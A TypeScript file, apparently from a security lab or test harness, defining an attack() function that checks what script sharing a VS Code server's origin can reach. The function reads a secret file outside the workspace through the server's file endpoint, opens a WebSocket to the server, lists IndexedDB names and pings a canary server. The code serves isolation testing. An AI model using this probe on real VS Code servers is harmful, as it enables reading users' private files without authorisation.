/** Where an attack aims. Plain data: it is sent into pages and written into labs. */
export interface Target {
  /** `http://127.0.0.1:PORT` of the VS Code server. */
  readonly origin: string;
  /** Address below which VS Code's server hands out files. */
  readonly files: string;
  /** Absolute path of a file outside of the workspace. */
  readonly secretFile: string;
  /** A server that counts who reaches it. */
  readonly canary: string;
}

/** What an attack got hold of. `denied` wherever it got nothing. */
export interface Loot {
  readonly origin: string;
  /** The secret file's content, read through VS Code's own server. */
  readonly file: string;
  /** `open` if VS Code's server accepted a connection. */
  readonly socket: string;
  /** Names of the workbench's databases. */
  readonly databases: string;
  readonly canary: string;
}

/**
 * Tries what a page or worker that shares VS Code's origin can do. Runs anywhere: in a page, a frame, a worker, and, as
 * text, in a lab. It must therefore stand alone.
 */
export async function attack(target: Target): Promise<Loot> {
  const attempt = async (get: () => Promise<string>): Promise<string> => {
    try {
      return await get();
    } catch {
      return 'denied';
    }
  };
  const openSocket = (): Promise<string> =>
    new Promise((resolve, reject) => {
      const query = 'reconnectionToken=attack&reconnection=false&skipWebSocketFrames=false';
      const socket = new WebSocket(`${target.origin.replace('http', 'ws')}/?${query}`);
      socket.onopen = () => {
        socket.close();
        resolve('open');
      };
      socket.onerror = () => {
        reject(new Error('refused'));
      };
    });
  return {
    origin: globalThis.origin,
    file: await attempt(async () => (await fetch(`${target.files}?path=${encodeURIComponent(target.secretFile)}&tkn=`)).text()),
    socket: await attempt(openSocket),
    databases: await attempt(async () => (await indexedDB.databases()).map(({ name }) => name).join(', ')),
    canary: await attempt(async () => (await fetch(target.canary, { mode: 'no-cors' })).type),
  };
}
